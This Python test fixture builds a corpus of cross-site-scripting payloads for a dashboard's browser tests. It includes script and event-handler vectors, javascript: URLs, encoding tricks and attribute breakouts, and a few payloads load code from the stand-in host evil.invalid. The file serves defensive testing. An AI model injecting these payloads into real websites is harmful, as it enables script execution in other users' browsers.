"""A corpus of script-injection payloads for the dashboard's XSS tests.

Classic vectors, each also wrapped to break out of an attribute, a text block, a
comment and a template. Every payload that runs sets ``window.__xss`` or opens a
dialog, so the browser test can tell.
"""

from __future__ import annotations

BASE = [
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='javascript:window.__xss=1'>x</a>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<math><mtext></table><img src onerror=alert(1)></mtext></math>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>*{background:url(//evil.invalid)}</style>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<table background=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<script\x00>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }}<script>alert(1)</script>",
    "{% raw %}<script>alert(1)</script>",
    "${alert(1)}",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "<script>window.__xss=1</script>" * 3,
]
WRAPPERS = [
    "{}",
    '"><{}',
    "'>{}",
    "</title></pre></textarea></code>{}",
    "--></span>{}",
]

PAYLOADS: list[str] = []
for wrapper in WRAPPERS:
    for base in BASE:
        candidate = wrapper.replace("{}", base) if wrapper != "{}" else base
        if candidate not in PAYLOADS:
            PAYLOADS.append(candidate)
# Attribute breakouts without a tag.
PAYLOADS += [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="window.__xss=1',
    'x" style="background:url(javascript:alert(1))',
]
